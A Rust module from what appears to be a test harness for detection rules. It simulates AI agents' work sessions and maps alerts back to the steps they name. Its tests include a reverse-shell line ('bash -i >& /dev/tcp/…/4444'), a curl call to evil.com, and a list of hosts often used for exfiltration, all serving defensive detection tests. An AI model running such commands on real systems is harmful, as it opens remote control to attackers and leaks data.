//! Scenes: one session each of an agent of its own, after a day of ordinary work, and what the rules tell of it. What happens in
//! the session is decided elsewhere; how it is recorded is known in `records`.

use std::collections::{BTreeMap, BTreeSet};

use operations::alert::Severity;

use crate::corpus::Corpus;
use crate::day::{self, Amount, Doing, Event, Origin};
use crate::fault::Fault;
use crate::fleet::{Attack, Fleet, START};
use crate::judge::{Judged, Owner, Verdict};
use crate::notation::{Timed, Work};
use crate::numbers::Numbers;
use crate::people::{self, Agent};
use crate::records::Teller;

const DAY_SECONDS: i64 = 86_400;
/// The hour at which the first begin, and within how many seconds all have begun.
const MORNING_SECONDS: (i64, u64) = (7 * 3_600, 3 * 3_600);
/// Acts of ordinary work the day before.
const PAST: Amount = Amount { acts: 16, around: 0, around_more: 0 };

/// One session.
#[derive(Debug, Clone, Default)]
pub struct Scene {
    /// A session the day before, besides the ordinary work.
    pub past: Vec<Timed>,
    /// What the session begins with, which nobody judges.
    pub before: Vec<Timed>,
    /// What is judged.
    pub acts: Vec<Timed>,
}

/// What was told of a scene by one alert.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Told {
    /// By which rule.
    pub rule: String,
    /// How bad the rule called it at worst.
    pub severity: Severity,
    /// Its words.
    pub reason: String,
    /// The steps that it names as evidence, from 1.
    pub steps: BTreeSet<usize>,
}

/// How many scenes were told, by the worst that was told of each.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Counts {
    /// Scenes.
    pub all: usize,
    /// Told as low or worse,
    pub low: usize,
    /// as medium or worse,
    pub medium: usize,
    /// as high or worse.
    pub high: usize,
}

impl Counts {
    /// Counts a scene of which this was told at worst.
    pub fn add(&mut self, worst: Option<Severity>) {
        self.all += 1;
        self.low += usize::from(worst >= Some(Severity::Low));
        self.medium += usize::from(worst >= Some(Severity::Medium));
        self.high += usize::from(worst >= Some(Severity::High));
    }
}

/// The worst that was told.
pub fn worst(told: &[Told]) -> Option<Severity> {
    told.iter().map(|told| told.severity).max()
}

/// A fleet of so many agents, each of which has one of these scenes.
pub fn fleet(corpus: &Corpus, count: usize, seed: u64, scene: &dyn Fn(usize, &Agent) -> Scene) -> Result<Fleet, Fault> {
    let mut fleet = Fleet::default();
    for number in 0..count {
        let agent = people::agent(number, Work::ALL[number % Work::ALL.len()], seed);
        let mut numbers = Numbers(seed.wrapping_mul(0x1000_0001) ^ ((number as u64 + 11) << 24));
        let mut teller = Teller::new(&agent, seed);
        let scene = scene(number, &agent);
        let (first, spread) = MORNING_SECONDS;
        let start = START + first + numbers.below(spread) as i64;
        let mut events = day::day(&agent, &corpus.chores, None, start, PAST, &mut numbers)?;
        if let (false, Some(last)) = (scene.past.is_empty(), events.last().cloned()) {
            events.extend(session(last.second + 600, last.session + 1, &scene.past, &[]));
        }
        fleet.records.extend(teller.tell(0, &events));
        let events = session(start + DAY_SECONDS, 0, &scene.before, &scene.acts);
        // The start of the session and what nobody judges come first.
        let harm = teller.acts() + (scene.before.len() + scene.acts.len()) as u32;
        fleet.attacked.insert(number, Attack { story: number, harm });
        fleet.records.extend(teller.tell(1, &events));
        drop(teller);
        fleet.agents.push(agent);
    }
    fleet.records.sort_by_key(|record| record.micros);
    Ok(fleet)
}

/// A session from this second on.
fn session(mut second: i64, session: u32, before: &[Timed], acts: &[Timed]) -> Vec<Event> {
    let mut events = vec![Event { second, session, origin: Origin::Session, doing: Doing::Start }];
    let before = before.iter().map(|timed| (Origin::Session, timed));
    let acts = acts.iter().map(|timed| (Origin::Story(timed.step), timed));
    for (origin, timed) in before.chain(acts) {
        second += timed.after.max(2);
        events.push(Event { second, session, origin, doing: Doing::Act(timed.act.clone()) });
    }
    events.push(Event { second: second + 5, session, origin: Origin::Session, doing: Doing::End });
    events
}

/// What was told of each scene, by its number. What the alert budget tells at low counts as its rule calls it: here every agent is
/// attacked, and so every team has more alerts than one should.
pub fn told(fleet: &Fleet, verdict: &Verdict) -> BTreeMap<usize, Vec<Told>> {
    let mut told: BTreeMap<usize, Vec<Told>> = BTreeMap::new();
    for judged in &verdict.alerts {
        let Owner::Story(number) = judged.owner else { continue };
        told.entry(number).or_default().push(Told {
            rule: judged.alert.rule.clone(),
            severity: judged.alert.lowered_from.map_or(judged.worst, |own| own.max(judged.worst)),
            reason: judged.alert.reason.clone(),
            steps: steps(fleet, judged),
        });
    }
    told
}

/// How many alerts were of what is not judged, and what could keep alerts from being counted.
pub fn others(fleet: &Fleet, verdict: &Verdict) -> String {
    let count = |is_meant: &dyn Fn(&Judged) -> bool| verdict.alerts.iter().filter(|judged| is_meant(judged)).count();
    let is_around = |judged: &Judged| matches!(judged.owner, Owner::Beside(_) | Owner::Ordinary(_));
    format!(
        "{} alerts of what is judged, {} mostly of what is around it ({} of them name a step), {} of nobody; {} were lowered by \
         budgets, {} told together only",
        count(&|judged| matches!(judged.owner, Owner::Story(_))),
        count(&is_around),
        count(&|judged| is_around(judged) && !steps(fleet, judged).is_empty()),
        count(&|judged| judged.owner == Owner::Nobody),
        count(&|judged| judged.alert.lowered_from.is_some()),
        count(&|judged| judged.alert.flood),
    )
}

/// The steps that an alert names as evidence, from 1.
fn steps(fleet: &Fleet, judged: &Judged) -> BTreeSet<usize> {
    let labels = judged.alert.evidence.iter().filter_map(|position| fleet.records.get(position.seq.get() as usize));
    labels
        .filter_map(|record| match record.label.origin {
            Origin::Story(step) => Some(step),
            _ => None,
        })
        .collect()
}

#[cfg(test)]
pub(crate) mod tests {
    use std::net::Ipv4Addr;

    use detect_rules::rule_set::RuleSet;

    use super::*;
    use crate::house::House;
    use crate::judge::judge;
    use crate::notation::Act;

    const RESERVED_ENDINGS: &[&str] = &[".example", "example.com", "example.org", "example.net"];
    const FAMOUS_HOSTS: &[&str] = &[
        "github.com",
        "pastebin.com",
        "discord.com",
        "api.telegram.org",
        "transfer.sh",
        "webhook.site",
        "sh.rustup.rs",
        "metadata.google.internal",
        "kubernetes.default.svc",
    ];

    /// The hosts in the addresses of a text, and the IPv4 addresses in it, that belong to somebody. Names without a dot are buckets
    /// and hosts of one's own.
    pub fn foreign_hosts(text: &str) -> Vec<String> {
        let is_end = |char: char| !char.is_ascii_alphanumeric() && !matches!(char, '.' | '-');
        let hosts = text.split("://").skip(1).filter_map(|rest| rest.split(is_end).next());
        let is_known = |host: &str| {
            let is_ending = |ending: &&str| host.ends_with(*ending);
            !host.contains('.') || RESERVED_ENDINGS.iter().any(is_ending) || FAMOUS_HOSTS.contains(&host)
        };
        let foreign = hosts.filter(|host| !is_known(host) && host.parse::<Ipv4Addr>().is_err()).map(str::to_owned);
        let numbers = text.split(|char: char| !char.is_ascii_digit() && char != '.');
        let is_reserved = |address: &Ipv4Addr| {
            address.is_documentation()
                || address.is_private()
                || address.is_loopback()
                || address.is_link_local()
                || address.is_unspecified()
        };
        let addresses = numbers.filter_map(|word| word.trim_matches('.').parse::<Ipv4Addr>().ok());
        foreign.chain(addresses.filter(|address| !is_reserved(address)).map(|address| address.to_string())).collect()
    }

    #[test]
    fn hosts_of_somebody_are_found() {
        let check = |text: &str, expected: &[&str]| assert_eq!(foreign_hosts(text), expected, "{text}");
        check("https://a.example/x http://127.0.0.1:80 https://github.com/a 203.0.113.7, 10.0.0.1", &[]);
        check("curl https://evil.com/a 8.8.8.8. v1.2.3", &["evil.com", "8.8.8.8"]);
    }

    #[test]
    fn a_scene_is_counted_by_the_worst_that_is_told() {
        let mut counts = Counts::default();
        for worst in [None, Some(Severity::Info), Some(Severity::Low), Some(Severity::Medium), Some(Severity::Critical)]
        {
            counts.add(worst);
        }
        assert_eq!(counts, Counts { all: 5, low: 3, medium: 2, high: 1 });
    }

    #[test]
    fn a_scene_is_taken_in_and_what_is_told_names_its_steps() {
        let corpus = Corpus::own().unwrap();
        let act = |line: &str| Act::Command { line: line.to_owned(), output: String::new(), code: 0 };
        let scene = |number: usize, _: &Agent| {
            let line = if number == 0 { "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1" } else { "ls" };
            let prompt = Timed { after: 0, act: Act::Prompt("Please look around".to_owned()), step: 1 };
            Scene {
                past: vec![prompt.clone()],
                before: vec![prompt],
                acts: vec![Timed { after: 3, act: act(line), step: 1 }],
            }
        };
        let fleet = fleet(&corpus, 2, 1, &scene).unwrap();
        assert!(fleet.records.iter().any(|record| record.label.origin == Origin::Story(1)));
        let verdict = judge(&fleet, &House::of(&fleet).unwrap(), &RuleSet::default()).unwrap();
        let told = told(&fleet, &verdict);
        assert!(worst(&told[&0]) >= Some(Severity::High), "{told:?}");
        assert!(told[&0].iter().all(|told| told.steps == BTreeSet::from([1])));
        assert!(!told.contains_key(&1), "{told:?}");
    }
}
